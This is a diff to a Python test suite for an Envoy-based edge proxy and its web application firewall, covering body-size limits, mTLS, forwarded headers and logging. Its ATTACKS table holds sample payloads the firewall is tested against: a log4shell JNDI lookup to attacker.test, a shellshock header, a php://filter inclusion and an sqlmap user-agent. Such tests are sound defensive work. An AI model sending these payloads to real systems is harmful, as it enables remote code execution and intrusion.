@@ -22,7 +22,7 @@ NAMES = {
         rate=RateLimit(requests=5, everybody=12, per="hour"), hsts=Hsts(include_subdomains=True)
     ),
     "closed": Exposure(rate=MANY, clients=Clients(authority="agencies", names=("files.agency.test",))),
-    "streamed": Exposure(rate=MANY, body=None),
+    "streamed": Exposure(rate=MANY, body=None, waf=Waf(content_types=("application/octet-stream",))),
     "watched": Exposure(rate=MANY, waf=Waf(mode="detect")),
     "excepted": Exposure(
         rate=MANY,
@@ -62,7 +62,7 @@ ATTACKS = {
     "log4shell in a header": ("/", {"x-api-version": "${jndi:ldap://attacker.test/a}"}),
     "a scanner": ("/", {"user-agent": "sqlmap/1.7 (https://sqlmap.org)"}),
     "PHP injection": ("/?page=" + quote("php://filter/convert.base64-encode/resource=index.php"), {}),
-    "shellshock": ("/", {"referer": "() { :;}; /bin/bash -c id"}),
+    "shellshock": ("/", {"x-mark": "() { :;}; /bin/bash -c id"}),
 }
 
 
@@ -133,6 +133,7 @@ def test_the_firewalls_log_names_rules_and_the_clients_address_and_never_what_wa
     assert "UNION" not in log
     assert '"client":"127.0.0.1:' in log
     assert "942100" in log
+    assert "901340" not in log
 
 
 def test_a_name_without_the_firewall_is_not_looked_at(edge: Edge) -> None:
@@ -158,10 +159,29 @@ def test_more_paranoia_finds_more(edge: Edge) -> None:
 def test_a_body_that_is_too_large_is_refused_and_one_that_is_just_small_enough_passes(
     edge: Edge, family: str
 ) -> None:
-    headers = {"content-type": "application/octet-stream"}
+    frame = len(upload("a.pdf", b"")[0])
     for size, status in ((1 << 20, 200), ((1 << 20) + 1, 413)):
-        answer = edge.ask("plain.x.test", method="POST", family=family, body=b"a" * size, headers=headers)
+        body, headers = upload("a.pdf", b"a" * (size - frame))
+        answer = edge.ask("plain.x.test", method="POST", family=family, body=body, headers=headers)
         assert answer.status == status, size
+
+
+@pytest.mark.parametrize("chunked", [False, True])
+def test_more_text_than_the_firewall_reads_is_refused(edge: Edge, chunked: bool) -> None:
+    kind = form()[1]
+    for size, status in ((128 << 10, 200), ((128 << 10) + 1, 413)):
+        text = b"a=" + b"x" * (size - 2)
+        body = iter([text[:1000], text[1000:]]) if chunked else text
+        answer = edge.ask("plain.x.test", method="POST", body=body, headers=kind)
+        assert answer.status == status, (size, answer.body)
+
+
+def test_more_text_in_the_fields_of_an_upload_is_refused(edge: Edge) -> None:
+    head = b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
+    kind = {"content-type": "multipart/form-data; boundary=x"}
+    for size, status in ((100 << 10, 200), (129 << 10, 413)):
+        body = head + b"y" * size + b"\r\n--x--\r\n"
+        assert edge.ask("plain.x.test", method="POST", body=body, headers=kind).status == status
 
 
 def test_a_streamed_name_takes_large_bodies(edge: Edge) -> None:
@@ -221,14 +241,16 @@ def test_the_backend_learns_the_clients_address_and_no_header_of_the_client_chan
     headers = {"x-forwarded-for": "203.0.113.7", "x-forwarded-client-cert": "By=me"}
     told = edge.ask("plain.x.test", family=family, headers=headers).told["headers"]
     told = {name.lower(): value for name, value in told.items()}
-    assert told["x-forwarded-for"].rpartition(",")[2].strip() == LOOPBACK[family]
+    # of a client on loopback, Envoy tells its own address
+    assert told["x-forwarded-for"].rpartition(",")[2].strip() != "203.0.113.7"
+    assert told["x-envoy-external-address"] == LOOPBACK[family]
     assert "x-forwarded-client-cert" not in told
 
 
 @pytest.mark.parametrize("family", FAMILIES)
 def test_the_access_log_has_address_port_host_status_and_tls(edge: Edge, family: str) -> None:
     edge.ask("plain.x.test", f"/logged-{family}?secret=1", family=family, headers={"user-agent": "probe"})
-    (line,) = [line for line in edge.log() if line.get("path") == f"/logged-{family}"]
+    (line,) = edge.logged(path=f"/logged-{family}")
     assert line["client_address"] == LOOPBACK[family]
     assert 0 < int(line["client_port"]) < 65536
     assert (line["host"], int(line["status"]), line["method"]) == ("plain.x.test", 200, "GET")
@@ -271,8 +293,8 @@ def test_without_a_certificate_of_the_authority_nobody_is_served(
 ) -> None:
     with pytest.raises((OSError, http.client.HTTPException)):
         edge.ask("closed.x.test", family=family, client=client)
-    failures = [line for line in edge.log() if line.get("tls_failure") not in (None, "-", "")]
-    assert any(line["host"] == "closed.x.test" for line in failures)
+    lines = edge.logged(host="closed.x.test", client_address=LOOPBACK[family])
+    assert any(line.get("tls_failure") for line in lines)
 
 
 @pytest.mark.parametrize("family", FAMILIES)
